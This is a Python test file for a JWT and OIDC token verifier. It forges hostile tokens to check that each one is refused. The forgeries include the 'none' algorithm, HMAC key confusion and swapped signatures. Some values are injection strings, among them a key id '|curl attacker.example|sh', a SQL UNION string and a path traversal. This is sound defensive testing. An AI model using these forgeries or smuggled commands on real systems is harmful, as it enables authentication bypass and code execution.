"""Tokens of each kind of issuer, good and hostile, and how each is decided.

The issuers are servers on loopback that sign with real keys. Unless a vector says otherwise its token is well signed,
so that it is refused for what it is about and nothing else.
"""

import asyncio
import base64
import hmac
import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from typing import Any, Final

import pytest

from modelkeep.domain.access.grants import Grant
from modelkeep.domain.access.trust import ALGORITHMS, IssuerKind, Trust, TrustRule
from modelkeep.domain.errors import InvalidTokenError, IssuerUnavailableError, TokenExpiredError
from modelkeep.domain.values import UNSET
from modelkeep.identity import discovery
from modelkeep.identity.verifier import Verifier
from tests.support.faults.network import answers, changes_the_body, drops, rewrites, sleeps
from tests.support.faults.proxy import Fault
from tests.support.issuers import (
    AUDIENCE,
    JWKS,
    SECOND_AUDIENCE,
    IssuerServer,
    SigningKey,
    issuer_server,
    part,
    signed,
    signing_key,
)

HOUR = 3600
DAY = 24 * HOUR
DECADE = 10 * 365 * DAY


@dataclass(frozen=True)
class Vector:
    """A token, and a word of the sentence by which it must be refused."""

    name: str
    token: Callable[[IssuerServer], str]
    says: str
    error: type[Exception] = InvalidTokenError

    def __str__(self) -> str:
        return self.name


def now() -> int:
    return int(time.time())


def claims(name: str, says: str, make: Callable[[IssuerServer], dict[str, Any]], **more: Any) -> Vector:
    """A token with other claims."""
    return Vector(name, lambda server: server.token(**make(server)), says, **more)


def claim(name: str, says: str, **changes: Any) -> Vector:
    """A token with other claims, whoever issues it."""
    return claims(name, says, lambda server: changes)


def header(name: str, says: str, **changes: Any) -> Vector:
    """A token with another header."""
    return Vector(name, lambda server: server.token(headers=changes), says)


def whole(name: str, says: str, make: Callable[[str], str]) -> Vector:
    """A good token, changed after it was signed."""
    return Vector(name, lambda server: make(server.token()), says)


def payload(name: str, says: str, make: Callable[[IssuerServer], str | bytes]) -> Vector:
    """A payload that is not just JSON, signed."""
    return Vector(name, lambda server: server.signed(make(server), server.header()), says)


def head(name: str, says: str, make: Callable[[IssuerServer], str | bytes]) -> Vector:
    """A header that is not just JSON, signed."""
    return Vector(name, lambda server: server.signed(server.claims(), make(server)), says)


def text(members: dict[str, Any]) -> str:
    return json.dumps(members, separators=(",", ":"))


def doubled(members: dict[str, Any], name: str, value: str) -> str:
    """JSON in which a member comes twice."""
    return f'{{"{name}":{json.dumps(value)},{text(members)[1:]}'


def with_raw(members: dict[str, Any], name: str, raw: str) -> str:
    """JSON in which a member is written as it is."""
    return f'{{"{name}":{raw},{text({other: value for other, value in members.items() if other != name})[1:]}'


def confused(digest: str, form: str, secret: Callable[[SigningKey], bytes]) -> Vector:
    """A token that takes something public for a shared secret."""

    def make(server: IssuerServer) -> str:
        header = server.header(alg=digest.replace("sha", "HS"))
        return signed(
            part(header), part(server.claims()), lambda text: hmac.new(secret(server.key), text, digest).digest()
        )

    return Vector(f"HMAC ({digest}) with the public key as {form}", make, "algorithm")


def unsigned(algorithm: str, signature: str, says: str) -> Vector:
    """A token with a signature that says nothing."""
    return Vector(
        f"{algorithm} with the signature '{signature}'",
        lambda server: f"{part(server.header(alg=algorithm))}.{part(server.claims())}.{signature}",
        says,
    )


def by(name: str, says: str, key: Callable[[IssuerServer], SigningKey], **headers: Any) -> Vector:
    """A token that is signed by another key."""
    return Vector(name, lambda server: server.token(key=key(server), headers=headers), says)


def flip(segment: int, position: float) -> Vector:
    """A token of which one character is another."""
    names = ("header", "payload", "signature")

    def make(token: str) -> str:
        segments = token.split(".")
        at = int((len(segments[segment]) - 1) * position)
        other = "A" if segments[segment][at] != "A" else "Q"
        segments[segment] = segments[segment][:at] + other + segments[segment][at + 1 :]
        return ".".join(segments)

    says = "The token" if segment < 2 else "signature"
    return whole(f"a character at {position:.0%} of the {names[segment]} changed", says, make)


def in_the_middle(segment: int, character: str) -> Callable[[str], str]:
    """Puts a character into a segment."""

    def make(token: str) -> str:
        segments = token.split(".")
        middle = len(segments[segment]) // 2
        segments[segment] = segments[segment][:middle] + character + segments[segment][middle:]
        return ".".join(segments)

    return make


def padded(segment: int) -> Callable[[str], str]:
    """Puts padding behind a segment."""

    def make(token: str) -> str:
        segments = token.split(".")
        segments[segment] += "="
        return ".".join(segments)

    return make


def swapped(server: IssuerServer) -> str:
    """The payload of one token under the signature of another."""
    mine, other = server.token().split("."), server.token(sub="somebody:else").split(".")
    return f"{mine[0]}.{other[1]}.{mine[2]}"


def loose(server: IssuerServer) -> str:
    """A header that ends in bits which belong to no byte, signed so."""
    written = text(server.header())
    encoded = part(written + " " * ((1 - len(written)) % 3))
    following = {"A": "B", "Q": "R", "g": "h", "w": "x"}
    return signed(encoded[:-1] + following[encoded[-1]], part(server.claims()), server.key.sign)


def stranger(server: IssuerServer) -> SigningKey:
    """A key that the issuer never saw, under the id of its own."""
    return replace(signing_key(server.key.algorithm, "stranger"), id=server.key.id)


def second(server: IssuerServer) -> SigningKey:
    """The other key that the issuer signs with."""
    return signing_key(server.key.algorithm, "second")


UNUSUAL = signing_key("ES512")
"""A key that each issuer publishes, of an algorithm that is allowed to none."""

BOUND = signing_key("RS256", "bound")
"""A key that each issuer publishes for RS512 only."""

ENCRYPTING = signing_key("RS256", "encrypting")
"""A key that each issuer publishes, but not for signatures."""

WEAK = signing_key("RS256", "weak", bits=1024)
"""A key that is shorter than any should be."""

LEAKED = signing_key("RS256", "leaked")
"""A key of which an issuer publishes the private half."""

SHARED_SECRET = {"kty": "oct", "kid": "shared-secret", "k": part("secret" * 8), "alg": "HS256", "use": "sig"}


FORM = [
    Vector("empty", lambda server: "", "three parts"),
    Vector("words", lambda server: "not a token at all", "three parts"),
    Vector("dots", lambda server: "..", "three parts"),
    Vector("registry token", lambda server: "mr_0Aq3kP9xTzb_" + "a" * 43 + "_0f0f0f0f", "three parts"),
    whole("with its scheme", "three parts", lambda token: f"Bearer {token}"),
    whole("two parts", "three parts", lambda token: token.rpartition(".")[0]),
    whole("four parts", "three parts", lambda token: f"{token}.e30"),
    whole("encrypted (five parts)", "three parts", lambda token: f"{token}.e30.e30"),
    whole("detached payload", "three parts", lambda token: "..".join(token.split(".")[::2])),
    whole("no signature", "three parts", lambda token: token.rpartition(".")[0] + "."),
    whole("as a JSON object", "three parts", lambda token: text({"payload": token})),
    whole("padded header", "three parts", padded(0)),
    whole("padded payload", "three parts", padded(1)),
    whole("padded signature", "three parts", padded(2)),
    whole("space in front", "three parts", lambda token: f" {token}"),
    whole("line break behind", "three parts", lambda token: f"{token}\n"),
    whole("line break in the payload", "three parts", in_the_middle(1, "\n")),
    whole("letter beyond ASCII in the header", "three parts", in_the_middle(0, "é")),
    whole("fullwidth letter in the payload", "three parts", in_the_middle(1, "\uff21")),
    whole("lone surrogate in the signature", "three parts", in_the_middle(2, "\ud800")),
    whole("zero byte", "three parts", in_the_middle(1, "\0")),
    whole("plus of the other base64", "three parts", in_the_middle(1, "+")),
    whole("fullwidth dot", "three parts", lambda token: token.replace(".", "\uff0e", 1)),
    claim("too long", "too long", padding="x" * 16 * 1024),
    Vector("far too long", lambda server: "a" * 5_000_000, "too long"),
    whole("one letter missing in the header", "header", lambda token: token[1:]),
    head("header is no JSON", "header", lambda server: "alg=none"),
    head("header is a list", "header", lambda server: "[" + text(server.header()) + "]"),
    head("header is a number", "header", lambda server: "7"),
    head("header is deep", "header", lambda server: "[" * 5000 + "]" * 5000),
    head("header names the algorithm twice", "header", lambda server: doubled(server.header(), "alg", "none")),
    head("header with a byte order mark", "header", lambda server: "\ufeff" + text(server.header())),
    head("header in UTF-16", "header", lambda server: text(server.header()).encode("utf-16")),
    payload("payload is no JSON", "payload", lambda server: "sub=admin"),
    payload("payload is a list", "payload", lambda server: "[" + text(server.claims()) + "]"),
    payload("payload is a token (nested)", "payload", lambda server: server.token()),
    payload("payload is a quoted token", "payload", lambda server: json.dumps(server.token())),
    payload("payload is deep", "payload", lambda server: "[" * 5000 + "]" * 5000),
    payload("payload is cut off", "payload", lambda server: text(server.claims())[:-1]),
    payload("payload with a second object", "payload", lambda server: text(server.claims()) + "{}"),
    payload("payload in UTF-16", "payload", lambda server: text(server.claims()).encode("utf-16")),
    payload("payload in no encoding", "payload", lambda server: text(server.claims()).encode() + b"\xff"),
    payload("payload names the subject twice", "payload", lambda server: doubled(server.claims(), "sub", "admin")),
    payload("payload names the audience twice", "payload", lambda server: doubled(server.claims(), "aud", AUDIENCE)),
    payload(
        "payload repeats a member deep inside",
        "payload",
        lambda server: with_raw(server.claims(), "x", '{"a":1,"a":2}'),
    ),
    payload("expiry is NaN", "payload", lambda server: with_raw(server.claims(), "exp", "NaN")),
    payload("expiry is Infinity", "payload", lambda server: with_raw(server.claims(), "exp", "Infinity")),
    payload("expiry has ten thousand digits", "payload", lambda server: with_raw(server.claims(), "exp", "9" * 10_000)),
]

ALGORITHM = [
    *(unsigned(spelling, "", "three parts") for spelling in ("none", "None", "NONE", "nOnE")),
    *(unsigned(spelling, "c2ln", "algorithm") for spelling in ("none", "None", "NONE", "nOnE")),
    *(
        confused(digest, form, secret)
        for digest in ("sha256", "sha384", "sha512")
        for form, secret in (
            ("PEM", SigningKey.pem),
            ("DER", SigningKey.der),
            ("JWK", lambda key: text(key.jwk()).encode()),
            ("nothing", lambda key: b""),
        )
    ),
    header("shared secret that the issuer publishes", "algorithm", alg="HS256", kid="shared-secret"),
    header("id of a shared secret", "does not publish", kid="shared-secret"),
    header("no algorithm", "'alg'", alg=UNSET),
    header("empty algorithm", "'alg'", alg=""),
    header("null algorithm", "'alg'", alg=None),
    header("algorithm is a number", "'alg'", alg=256),
    header("algorithm is a list", "'alg'", alg=["RS256"]),
    header("algorithm with a space", "algorithm", alg="RS256 "),
    header("algorithm in small letters", "algorithm", alg="rs256"),
    header("algorithm of the bitcoin curve", "algorithm", alg="ES256K"),
    header("algorithm of a key exchange", "algorithm", alg="RSA-OAEP"),
    by("good signature by an algorithm that is not allowed", "algorithm", lambda server: UNUSUAL),
    header("id of a key of another family", "key is not for", kid=UNUSUAL.id),
    by("key that is for another algorithm of its family", "key is not for", lambda server: BOUND),
    by("key that is for encryption", "does not publish", lambda server: ENCRYPTING),
    by("key of 1024 bits", "does not publish", lambda server: WEAK),
    by("key whose private half is published", "does not publish", lambda server: LEAKED),
]

SIGNATURE = [
    *(flip(segment, position) for segment in range(3) for position in (0, 0.3, 0.7)),
    Vector("bits of no byte in the header", loose, "signature"),
    Vector("payload under the signature of another", swapped, "signature"),
    whole("signature cut short", "signature", lambda token: token[:-4]),
    whole(
        "signature twice",
        "signature",
        lambda token: token + "A" * (-len(token.rpartition(".")[2]) % 4) + token.rpartition(".")[2],
    ),
    whole("signature of zeros", "signature", lambda token: f"{token.rpartition('.')[0]}.{part(bytes(256))}"),
    whole("signature of 64 zeros", "signature", lambda token: f"{token.rpartition('.')[0]}.{part(bytes(64))}"),
    whole("signature of 96 zeros", "signature", lambda token: f"{token.rpartition('.')[0]}.{part(bytes(96))}"),
    by("signature by a stranger", "signature", stranger),
    Vector(
        "signature by a stranger whose key the header brings",
        lambda server: server.token(key=stranger(server), headers={"jwk": stranger(server).jwk()}),
        "'jwk'",
    ),
    Vector(
        "signature by the other key of the issuer",
        lambda server: server.token(key=replace(second(server), id=server.key.id)),
        "signature",
    ),
]

HEADERS = [
    header("critical header", "'crit'", crit=["exp"]),
    header(
        "critical header that nobody knows",
        "'crit'",
        crit=["http://example.com/rule"],
        **{"http://example.com/rule": 1},
    ),
    header("no critical headers", "'crit'", crit=[]),
    header("payload that is not encoded", "'b64'", b64=False),
    header("payload that is encoded as always", "'b64'", b64=True),
    header("payload that is not encoded, critically", "'crit'", b64=False, crit=["b64"]),
    header("embedded key", "'jwk'", jwk={"kty": "oct", "k": "c2VjcmV0"}),
    header("embedded certificate", "'x5c'", x5c=["MIIBszCCARygAwIBAgIU"]),
    header("no key id", "'kid'", kid=UNSET),
    header("empty key id", "'kid'", kid=""),
    header("null key id", "'kid'", kid=None),
    header("key id is a number", "'kid'", kid=7),
    header("key id is a list", "'kid'", kid=["first"]),
    header("key id is an object", "'kid'", kid={"$ne": ""}),
    header("very long key id", "'kid'", kid="k" * 5000),
    header("key id is a path", "does not publish", kid="../../../../dev/null"),
    header("key id is a statement", "does not publish", kid="' UNION SELECT 'secret' --"),
    header("key id is a command", "does not publish", kid="|curl attacker.example|sh"),
    header("key id with a zero byte", "does not publish", kid="first\0"),
    header("key id that nobody has", "does not publish", kid="nobody-has-this"),
]

ISSUER = [
    claim("no issuer", "'iss'", iss=UNSET),
    claim("null issuer", "'iss'", iss=None),
    claim("issuer is a number", "'iss'", iss=1),
    claim("empty issuer", "not trusted", iss=""),
    claim("issuer of somebody else", "not trusted", iss="https://issuer.attacker.example"),
    claims("issuer is a list", "'iss'", lambda server: {"iss": [server.url]}),
    claims("issuer with a slash at its end", "not trusted", lambda server: {"iss": f"{server.url}/"}),
    claims("issuer in capitals", "not trusted", lambda server: {"iss": server.url.upper()}),
    claims("issuer by another scheme", "not trusted", lambda server: {"iss": server.url.replace("http", "https")}),
    claims("issuer with a space", "not trusted", lambda server: {"iss": f"{server.url} "}),
    claims("issuer with a fragment", "not trusted", lambda server: {"iss": f"{server.url}#"}),
    claims("issuer with a path", "not trusted", lambda server: {"iss": f"{server.url}/realms/other"}),
    claims("issuer without its last digit", "not trusted", lambda server: {"iss": server.url[:-1]}),
    claims("issuer behind a name", "not trusted", lambda server: {"iss": server.url.replace("//", "//me@")}),
]

AUDIENCES = [
    claim("no audience", "'aud'", aud=UNSET),
    claim("null audience", "'aud'", aud=None),
    claim("no audiences", "'aud'", aud=[]),
    claim("audience is a number", "'aud'", aud=7),
    claim("audience is true", "'aud'", aud=True),
    claim("audience is an object", "'aud'", aud={AUDIENCE: True}),
    claim("audience in a list in a list", "'aud'", aud=[[AUDIENCE]]),
    claim("list with null", "'aud'", aud=[None]),
    claim("two audiences, ours first", "'aud'", aud=[AUDIENCE, "https://elsewhere.example"]),
    claim("two audiences, ours last", "'aud'", aud=["https://elsewhere.example", AUDIENCE]),
    claim("two audiences, both ours", "'aud'", aud=[AUDIENCE, SECOND_AUDIENCE]),
    claim("our audience twice", "'aud'", aud=[AUDIENCE, AUDIENCE]),
    claim("empty audience", "another audience", aud=""),
    claim("other audience", "another audience", aud="https://elsewhere.example"),
    claim("list of another audience", "another audience", aud=["https://elsewhere.example"]),
    claim("part of our audience", "another audience", aud=AUDIENCE[:-1]),
    claim("more than our audience", "another audience", aud=f"{AUDIENCE}.attacker.example"),
    claim("our audience in capitals", "another audience", aud=AUDIENCE.upper()),
    claim("our audience with a slash", "another audience", aud=f"{AUDIENCE}/"),
    claim("our audience with a space", "another audience", aud=f" {AUDIENCE}"),
    claim("our audience among others in one text", "another audience", aud=f"{AUDIENCE},{SECOND_AUDIENCE}"),
    claim("letter of our audience", "another audience", aud=AUDIENCE[0]),
]


def expired(seconds: int) -> Vector:
    return claims(
        f"expired {seconds} seconds ago",
        "expired at",
        lambda server: {"iat": now() - seconds - 600, "nbf": UNSET, "exp": now() - seconds},
        error=TokenExpiredError,
    )


TIMES = [
    expired(32),
    expired(HOUR),
    expired(DECADE),
    claim("no expiry", "'exp'", exp=UNSET),
    claim("null expiry", "'exp'", exp=None),
    claim("expiry is true", "'exp'", exp=True),
    claim("expiry is a list", "'exp'", exp=[2**31]),
    claim("expiry is negative", "'exp'", exp=-1),
    claim("expiry has four hundred digits", "'exp'", exp=10**400),
    claim("expiry beyond the calendar", "'exp'", exp=253402300800),
    claims("expiry is text", "'exp'", lambda server: {"exp": str(now() + 600)}),
    payload("expiry is beyond floating point", "'exp'", lambda server: with_raw(server.claims(), "exp", "1e999")),
    claims("expires after a decade", "24 hours", lambda server: {"exp": now() + DECADE}),
    claims("expires a second later than in a day", "24 hours", lambda server: {"exp": now() + DAY + 2}),
    claims("expires at its issue", "24 hours", lambda server: {"iat": now(), "exp": now()}),
    claims("expires before its issue", "24 hours", lambda server: {"iat": now(), "exp": now() - 1}),
    claim("no issue", "'iat'", iat=UNSET),
    claim("null issue", "'iat'", iat=None),
    claim("issue is false", "'iat'", iat=False),
    claim("issue is in 1970", "24 hours", iat=0),
    claims("issue is text", "'iat'", lambda server: {"iat": str(now())}),
    claims("issued in a minute", "'iat'", lambda server: {"iat": now() + 60}),
    claims("issued in a decade", "'iat'", lambda server: {"iat": now() + DECADE, "exp": now() + DECADE + 60}),
    claim("beginning is null", "'nbf'", nbf=None),
    claims("beginning is text", "'nbf'", lambda server: {"nbf": str(now())}),
    claims("begins in a minute", "'nbf'", lambda server: {"nbf": now() + 60}),
]

SUBJECT = [
    claim("no subject", "'sub'", sub=UNSET),
    claim("null subject", "'sub'", sub=None),
    claim("subject is a number", "'sub'", sub=7),
    claim("subject is a list", "'sub'", sub=["system:serviceaccount:serving:fraud"]),
    claim("empty subject", "'sub'", sub=""),
    claim("subject of 256 bytes", "'sub'", sub="s" * 256),
    claim("subject of 128 letters and 256 bytes", "'sub'", sub="é" * 128),
    claim("subject with a line break", "'sub'", sub="job\nprincipal=admin"),
    claim("subject with a zero byte", "'sub'", sub="job\0"),
    claim("subject that is written backwards", "'sub'", sub="job\u202enimda"),
    claim("subject with half a letter", "'sub'", sub="job\ud800"),
]

HOSTILE = FORM + ALGORITHM + SIGNATURE + HEADERS + ISSUER + AUDIENCES + TIMES + SUBJECT


@dataclass(frozen=True)
class Good:
    """A token that must be accepted."""

    name: str
    token: Callable[[IssuerServer], str]

    def __str__(self) -> str:
        return self.name


GOOD = [
    Good("as it comes", lambda server: server.token()),
    Good("by the second key", lambda server: server.token(key=second(server))),
    Good("audience as text", lambda server: server.token(aud=AUDIENCE)),
    Good("audience as a list of one", lambda server: server.token(aud=[AUDIENCE])),
    Good("the second audience", lambda server: server.token(aud=SECOND_AUDIENCE)),
    Good("no type", lambda server: server.token(headers={"typ": UNSET})),
    Good("thumbprint of a certificate", lambda server: server.token(headers={"x5t": "c2hhMQ"})),
    Good("unknown header", lambda server: server.token(headers={"note": "nothing depends on it"})),
    Good("expired within the leeway", lambda server: server.token(iat=now() - 600, nbf=UNSET, exp=now() - 25)),
    Good("issued ahead within the leeway", lambda server: server.token(iat=now() + 25, nbf=now() + 25)),
    Good("valid for a day", lambda server: server.token(iat=(at := now()), exp=at + DAY)),
    Good("times with fractions", lambda server: server.token(iat=now() - 0.5, nbf=now() - 0.5, exp=now() + 60.5)),
    Good("no beginning", lambda server: server.token(nbf=UNSET)),
    Good("subject of 255 bytes", lambda server: server.token(sub="s" * 255)),
    Good("subject beyond ASCII", lambda server: server.token(sub="job:Prüfung")),
    Good("laid out on lines", lambda server: server.signed(json.dumps(server.claims(), indent=2), server.header())),
    Good("15 KiB", lambda server: server.token(padding="x" * 10_000)),
]


QUICK = frozenset({IssuerKind.GITHUB, IssuerKind.KUBERNETES})
"""Verified like all kinds; the others have their vectors in a thorough run."""

KINDS = [pytest.param(kind, marks=[] if kind in QUICK else [pytest.mark.thorough]) for kind in IssuerKind]


@pytest.fixture(scope="module", params=KINDS)
def server(request: pytest.FixtureRequest) -> Iterator[IssuerServer]:
    with issuer_server(request.param) as server:
        server.keys += [second(server).jwk(), UNUSUAL.jwk(), BOUND.jwk(alg="RS512"), ENCRYPTING.jwk(use="enc")]
        server.keys += [WEAK.jwk(), SHARED_SECRET, LEAKED.jwk(private=True)]
        yield server


@pytest.fixture(scope="module")
def verifier(server: IssuerServer) -> Verifier:
    """One for all tokens, as in a registry: what one of them does must not help the next."""
    return Verifier()


@pytest.fixture(params=KINDS)
def changing(request: pytest.FixtureRequest) -> Iterator[IssuerServer]:
    """An issuer for one test, that may do with it what it likes."""
    with issuer_server(request.param) as server:
        yield server


@pytest.fixture
def canary() -> Iterator[IssuerServer]:
    """A server that nobody may ask."""
    with issuer_server(IssuerKind.OIDC) as server:
        yield server
        assert server.asked("") == 0


async def refusal(verification: Any, error: type[Exception] = InvalidTokenError) -> str:
    """The sentence of the only kind of error that may come."""
    with pytest.raises(error) as caught:
        await verification
    assert type(caught.value) is error
    return str(caught.value)


def texts(value: Any) -> Iterator[str]:
    """Every text within JSON."""
    if isinstance(value, dict):
        for name, member in value.items():
            yield from texts([name, member])
    elif isinstance(value, list):
        for member in value:
            yield from texts(member)
    elif isinstance(value, str):
        yield value


def contents(token: str) -> Iterator[str]:
    """Every text in a token that could be told from the words of a sentence: its parts, and what they hold."""
    for segment in token.split("."):
        yield segment
        try:
            yield from texts(json.loads(base64.urlsafe_b64decode(segment + "==")))
        except (ValueError, RecursionError):
            continue


def assert_nothing_repeated(token: str, sentence: str) -> None:
    of_the_token = sentence.replace(AUDIENCE, "").replace(SECOND_AUDIENCE, "")
    assert not [text for text in contents(token) if len(text) > 7 and text in of_the_token]


def test_there_are_enough_vectors() -> None:
    names = [str(vector) for vector in [*HOSTILE, *GOOD]]
    assert len(set(names)) == len(names) >= 60


@pytest.mark.parametrize("vector", HOSTILE, ids=str)
async def test_a_hostile_token_is_refused(server: IssuerServer, verifier: Verifier, vector: Vector) -> None:
    token = vector.token(server)
    sentence = await refusal(verifier.verify(token, server.trusted), vector.error)
    assert vector.says in sentence
    assert_nothing_repeated(token, sentence)


@pytest.mark.parametrize("good", GOOD, ids=str)
async def test_a_good_token_is_accepted(server: IssuerServer, verifier: Verifier, good: Good) -> None:
    token = good.token(server)
    issuer, found = await verifier.verify(token, server.trusted)
    assert issuer == server.issuer
    assert found == json.loads(base64.urlsafe_b64decode(token.split(".")[1] + "=="))


@pytest.mark.parametrize("algorithm", sorted(ALGORITHMS))
async def test_every_algorithm_is_verified_where_it_is_allowed(changing: IssuerServer, algorithm: str) -> None:
    key, forged = signing_key(algorithm), replace(signing_key(algorithm, "stranger"), id=signing_key(algorithm).id)
    changing.keys = [key.jwk()]
    allowing = replace(changing.issuer, algorithms=(algorithm,))
    verifier = Verifier()
    assert await verifier.verify(changing.token(key=key), lambda url: allowing)
    assert "signature" in await refusal(verifier.verify(changing.token(key=forged), lambda url: allowing))


@pytest.mark.parametrize("algorithm", ["none", "HS256"])
async def test_even_a_careless_configuration_allows_no_shared_secret(changing: IssuerServer, algorithm: str) -> None:
    careless = replace(changing.issuer, algorithms=("none", "HS256"))
    token = confused("sha256", "PEM", SigningKey.pem).token(changing)
    if algorithm == "none":
        token = unsigned("none", "c2ln", "").token(changing)
    assert "algorithm that is allowed" in await refusal(Verifier().verify(token, lambda url: careless))
    assert changing.asked("") == 0


@pytest.mark.parametrize("name", ["jku", "x5u"])
async def test_no_address_of_a_key_is_followed(changing: IssuerServer, canary: IssuerServer, name: str) -> None:
    key = signing_key(changing.key.algorithm, "stranger")
    canary.keys = [key.jwk(), replace(key, id=changing.key.id).jwk()]
    token = changing.token(key=replace(key, id=changing.key.id), headers={name: canary.url + JWKS})
    assert f"'{name}'" in await refusal(Verifier().verify(token, changing.trusted))


async def test_neither_issuer_nor_key_id_is_an_address(changing: IssuerServer, canary: IssuerServer) -> None:
    verifier = Verifier()
    assert "not trusted" in await refusal(verifier.verify(changing.token(iss=canary.url), changing.trusted))
    told = await refusal(verifier.verify(changing.token(headers={"kid": canary.url + JWKS}), changing.trusted))
    assert "does not publish" in told


async def test_one_trusted_issuer_cannot_speak_for_another(changing: IssuerServer) -> None:
    with issuer_server(IssuerKind.OIDC) as other:
        issuers = {changing.url: changing.issuer, other.url: replace(other.issuer, algorithms=tuple(ALGORITHMS))}
        token = changing.token(iss=other.url)
        other.keys = [stranger(changing).jwk()]
        assert "signature" in await refusal(Verifier().verify(token, issuers.get))


async def test_tokens_of_a_new_key_are_accepted_once_it_is_published(changing: IssuerServer) -> None:
    verifier, old = Verifier(), changing.token()
    assert await verifier.verify(old, changing.trusted)
    changing.rotate()
    assert await verifier.verify(changing.token(), changing.trusted)
    assert "does not publish" in await refusal(verifier.verify(old, changing.trusted))


FAULTS = {
    "closes the connection": drops,
    "is down": answers(500),
    "answers without a body": answers(204),
    "has no keys": answers(200, '{"keys": []}'),
    "has only keys for encryption": rewrites(lambda document: {"keys": [ENCRYPTING.jwk(use="enc")]}),
    "has only a shared secret": answers(200, text({"keys": [SHARED_SECRET]})),
    "has keys that are none": answers(
        200, '{"keys": [7, null, [], {}, {"kid": "first", "kty": "RSA", "n": 7, "e": []}]}'
    ),
    "answers with garbage": answers(200, "<html>Log in to the proxy</html>"),
    "answers with a list": answers(200, "[]"),
    "answers with something deep": answers(200, "[" * 100_000),
    "answers with too much": changes_the_body(lambda body: body + b" " * discovery.MAX_BYTES),
}


@pytest.mark.parametrize("fault", FAULTS.values(), ids=FAULTS.keys())
async def test_without_keys_an_issuers_tokens_are_neither_believed_nor_refused(
    changing: IssuerServer, fault: Fault
) -> None:
    changing.break_down(fault, at=JWKS)
    sentence = await refusal(Verifier().verify(changing.token(), changing.trusted), IssuerUnavailableError)
    assert changing.issuer.name in sentence


@pytest.mark.parametrize("fault", FAULTS.values(), ids=FAULTS.keys())
async def test_with_keys_an_issuers_failure_stops_only_new_keys(changing: IssuerServer, fault: Fault) -> None:
    verifier, old = Verifier(), changing.token()
    await verifier.verify(old, changing.trusted)
    changing.rotate()
    changing.break_down(fault, at=JWKS)
    await refusal(verifier.verify(changing.token(), changing.trusted), IssuerUnavailableError)
    assert await verifier.verify(old, changing.trusted)


async def test_keys_to_which_an_issuer_redirects_are_not_taken(changing: IssuerServer, canary: IssuerServer) -> None:
    canary.keys = changing.keys
    changing.break_down(answers(302, location=canary.url + JWKS), at=JWKS)
    await refusal(Verifier().verify(changing.token(), changing.trusted), IssuerUnavailableError)


async def test_nobody_waits_long_for_a_slow_issuer(changing: IssuerServer, monkeypatch: pytest.MonkeyPatch) -> None:
    changing.break_down(sleeps(20), at=JWKS)
    monkeypatch.setattr(discovery, "TIMEOUT_SECONDS", 0.3)
    async with asyncio.timeout(10):
        await refusal(Verifier().verify(changing.token(), changing.trusted), IssuerUnavailableError)


async def test_an_issuer_that_is_gone_leaves_its_tokens_undecided(changing: IssuerServer) -> None:
    with issuer_server(changing.kind) as gone:
        token = gone.token()
    await refusal(Verifier().verify(token, gone.trusted), IssuerUnavailableError)


RULES: Final[dict[IssuerKind, tuple[str, dict[str, Any]]]] = {
    IssuerKind.GITHUB: ("repository_id", {"repository_id": "990000001"}),
    IssuerKind.GITLAB: ("project_id", {"project_id": "990000001"}),
    IssuerKind.KUBERNETES: ("sub", {}),
    IssuerKind.AWS: ("sub", {"sub": "arn:aws:iam::999999999999:role/fraud-serving"}),
    IssuerKind.OIDC: ("sub", {}),
}
"""By which claim a rule singles out a job, and what differs in one of somebody else who took over all its names."""


async def test_who_takes_over_a_name_takes_over_nothing_else(changing: IssuerServer) -> None:
    claim, differs = RULES[changing.kind]
    grant = Grant(rule="train", entries=("publisher",), models=("fraud-*",))
    match = {claim: frozenset({changing.claims()[claim]})}
    rule = TrustRule(id="train", issuer=changing.issuer.name, match=match, grants=(grant,))
    with issuer_server(changing.kind) as elsewhere:
        trust = Trust((changing.issuer, replace(elsewhere.issuer, name="elsewhere")), (rule,))
        verifier = Verifier()
        assert trust.rules_for(*await verifier.verify(changing.token(), trust.issuer)) == (rule,)
        assert trust.rules_for(*await verifier.verify(elsewhere.token(), trust.issuer)) == ()
        if differs:
            assert trust.rules_for(*await verifier.verify(changing.token(**differs), trust.issuer)) == ()
    assert "not trusted" in await refusal(verifier.verify(elsewhere.token(), changing.trusted))
